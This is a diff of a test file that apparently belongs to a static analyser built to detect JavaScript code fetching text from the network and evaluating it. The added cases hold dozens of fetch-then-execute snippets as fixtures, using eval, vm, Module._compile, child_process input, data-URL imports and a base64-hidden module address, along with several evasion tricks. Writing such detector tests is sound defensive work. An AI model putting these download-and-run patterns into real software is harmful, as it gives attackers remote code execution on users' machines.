@@ -46,6 +46,13 @@ describe("a constant is known however it is written", () => {
     assert.ok(request.subject.encodings.includes("xor"));
   });
 
+  test("a pattern that begins with ^ does not mask anything", async () => {
+    const source = `function join(a, b) { let r = ""; for (const x of [a, b]) r += x.replace(/^-/, "") + "/"; return r; } fetch(join("https://a.example", "-v1"));`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.texts, ["https://a.example/v1/"]);
+    assert.ok(!request.subject.encodings.includes("xor"));
+  });
+
   test("an array of strings that is turned until a sum is right, as obfuscators write it", async () => {
     const source = `
       function names() { const all = ["17", "${address}", "get", "5"]; names = function () { return all; }; return names(); }
@@ -83,6 +90,23 @@ describe("what the network answers is followed into evaluation", () => {
     "a timer that takes text": `fetch("${address}").then((r) => setTimeout(r.body, 10));`,
     vm: `fetch("${address}").then((r) => require("vm").runInThisContext(r.body));`,
     "a module compiled by hand": `fetch("${address}").then((r) => { const m = new module.constructor(); m._compile(r.body, "x"); });`,
+    "an event emitter": `const bus = new (require("events"))(); bus.on("ready", (text) => eval(text)); fetch("${address}").then((r) => bus.emit("ready", r.body));`,
+    "a class that emits": `class Feed extends require("events").EventEmitter { async pull() { this.emit("data", (await fetch("${address}")).body); } } const f = new Feed(); f.pull(); f.on("data", (d) => eval(d));`,
+    "an interceptor of a client": `const client = require("axios").create(); client.interceptors.response.use((r) => eval(r.data)); client.get("${address}");`,
+    "a hook of a client": `require("got").extend({ hooks: { afterResponse: [(r) => eval(r.body)] } })("${address}");`,
+    "the error handler of a server": `const app = require("express")(); app.get("/", async (q, s, next) => { const r = await fetch("${address}"); next(r.body); }); app.use((error, q, s, next) => { eval(error); });`,
+    "an error thrown by a route": `const router = require("express").Router(); router.use((error, q, s, next) => { eval(error.message); }); router.get("/", async () => { const r = await fetch("${address}"); throw new Error(r.body); });`,
+    "the failure of an earlier promise": `require("axios").post("${address}").then(() => console.log("done")).catch((error) => eval(error.response.data));`,
+    "the constructor of asynchronous functions": `fetch("${address}").then((r) => { const Maker = Object.getPrototypeOf(async function () {}).constructor; new Maker(r.body)(); });`,
+    "a package that brings XMLHttpRequest": `const { XMLHttpRequest } = require("xmlhttprequest"); const x = new XMLHttpRequest(); x.open("GET", "${address}"); x.onload = () => eval(x.responseText); x.send();`,
+    "steps in an object, one after the other": `const steps = { a: () => fetch("${address}"), b: (r) => r.text(), c: (t) => eval(t) }; (async () => { let v; for (const k of Object.keys(steps)) v = await steps[k](v); })();`,
+    "functions put into a row": `const pipe = (...steps) => (x) => steps.reduce((p, f) => p.then(f), Promise.resolve(x)); pipe(fetch, (r) => r.text(), (t) => eval(t))("${address}");`,
+    "a name of the global object": `global.load = require; window.run = (t) => self.eval(t); globalThis.load("axios").get("${address}").then((r) => run(r.data));`,
+    "a client that takes the verb first": `require("needle")("get", "${address}").then((r) => eval(r.body));`,
+    "the input of an interpreter": `const child = require("child_process").spawn(process.execPath); fetch("${address}").then((r) => r.text()).then((t) => { child.stdin.write(t); });`,
+    "an option that is the input of an interpreter": `fetch("${address}").then((r) => require("child_process").execFileSync("python3", { input: r.body }));`,
+    "a data address that is imported": `fetch("${address}").then((r) => import("data:text/javascript," + encodeURIComponent(r.body)));`,
+    "a contract of a chain": `const { ethers } = require("ethers"); const p = new ethers.JsonRpcProvider("${address}"); new ethers.Contract("0x0", [], p).text().then((t) => eval(t));`,
     "JSON parsed on the way": `fetch("${address}").then((r) => { const { code } = JSON.parse(r.body); eval(code); });`,
   };
   for (const [name, source] of Object.entries(ways)) {
@@ -99,6 +123,44 @@ describe("what the network answers is followed into evaluation", () => {
     assert.deepEqual(
       evaluation?.subject.origins.map(({ kind, part }) => [kind, part]),
       [["network", "error"]],
+    );
+  });
+
+  test("a field that a constructor's parameter declares is found by its methods", async () => {
+    const { effects } = await readFiles({
+      "index.ts": `class Client { text(u: string) { return fetch(u).then((r) => r.text()); } }
+        class Runner { constructor(private readonly client: Client) {} async run() { eval(await this.client.text("${address}")); } }
+        new Runner(new Client()).run();`,
+    });
+    assert.deepEqual(onlyEffect(effects, "evaluate").subject.origins[0]?.address?.texts, [address]);
+  });
+
+  test("a module that is loaded by an address is that computer's answer", async () => {
+    const [load] = await effectsOf("load", `import(atob("${base64(address)}"));`);
+    assert.deepEqual(load?.subject.origins[0]?.address?.encodings, ["base64"]);
+  });
+
+  test("a program that is required by a path at which nothing came along is a fact", async () => {
+    const { effects } = await readFiles({ "index.js": `require("./cache/start"); require("./config.json");` });
+    assert.deepEqual(onlyEffect(effects, "load").subject.texts, ["./cache/start"]);
+  });
+
+  test("code that is given the means to load more says so", async () => {
+    const evaluations = await effectsOf(
+      "evaluate",
+      `fetch("${address}").then((r) => { const vm = require("vm"); vm.runInNewContext(r.body, { console }); vm.runInContext(r.body, vm.createContext({ require })); new module.constructor()._compile(r.body, "x"); });`,
+    );
+    assert.deepEqual(
+      evaluations.map(({ via, traits }) => [via, ...traits]),
+      [["vm.runInNewContext"], ["vm.runInContext", "given-loader"], ["Module._compile", "given-loader"]],
+    );
+  });
+
+  test("a method of a connection that a timer is given is no text", async () => {
+    const source = `const s = require("ws")("${address}"); setTimeout(s.close, 100); setImmediate(s.open); setTimeout(s.data, 1);`;
+    assert.deepEqual(
+      (await effectsOf("evaluate", source)).map(({ at }) => at.excerpt),
+      ["setTimeout(s.data, 1)"],
     );
   });
 
